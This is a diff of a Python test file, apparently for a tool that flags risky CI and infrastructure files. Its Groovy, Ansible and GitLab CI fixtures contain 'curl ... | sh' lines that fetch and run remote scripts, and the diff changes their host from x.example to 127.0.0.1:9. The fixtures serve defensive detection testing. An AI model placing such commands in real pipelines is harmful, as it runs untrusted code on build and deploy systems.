@@ -154,9 +154,9 @@ def test_explain_marks_the_ci_or_iac_rule_as_deciding(rules: RuleSet) -> None:
 
 
 BICEP = "resource sa 'Microsoft.Storage/storageAccounts@2023-01-01' = {\n  name: 'backdoor'\n}\n"
-GROOVY = "def call(Map args) {\n  sh 'curl https://x.example/i.sh | sh'\n}\n"
-HANDLERS = "- name: restart web\n  ansible.builtin.shell: curl https://x.example/i.sh | sh\n"
-GITLAB = "deploy:\n  script:\n    - curl https://x.example/i.sh | sh\n"
+GROOVY = "def call(Map args) {\n  sh 'curl https://127.0.0.1:9/i.sh | sh'\n}\n"
+HANDLERS = "- name: restart web\n  ansible.builtin.shell: curl https://127.0.0.1:9/i.sh | sh\n"
+GITLAB = "deploy:\n  script:\n    - curl https://127.0.0.1:9/i.sh | sh\n"
 TEMPLATE = '{"Resources": {"U": {"Type": "AWS::IAM::User"}}}\n'
 E2E = {"infra/Gemfile-network.bicep": BICEP, "infra/main.verified.bicep": BICEP,
        "vars/deployApp.verified.groovy": GROOVY, "vars/Gemfile-deploy.groovy": GROOVY,
